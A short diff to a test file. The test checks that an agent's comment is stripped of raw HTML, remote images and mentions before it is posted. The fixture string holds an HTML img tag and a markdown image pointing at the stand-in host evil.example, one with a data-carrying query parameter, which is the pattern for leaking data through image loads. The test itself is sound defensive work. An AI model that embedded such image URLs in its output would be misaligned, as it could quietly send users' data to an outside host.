@@ -271,7 +271,7 @@ describe('review rounds', () => {
 
   it("posts an agent's comment without its raw HTML, remote images or mentions", async () => {
     const comment =
-      '"Done. <img src=https://evil.example/p.png?d=x> ![p](https://evil.example/q.png) <b>@ada</b>"'
+      '"Done. <img src=https://evil.example/p.png?d=x> ![](https://evil.example/q.png) <b>@ada</b>"'
     const w = world((k) =>
       k.profile === 'researcher' ? { text: `---\ncomment: ${comment}\n---\n# Research\n` } : {}
     )
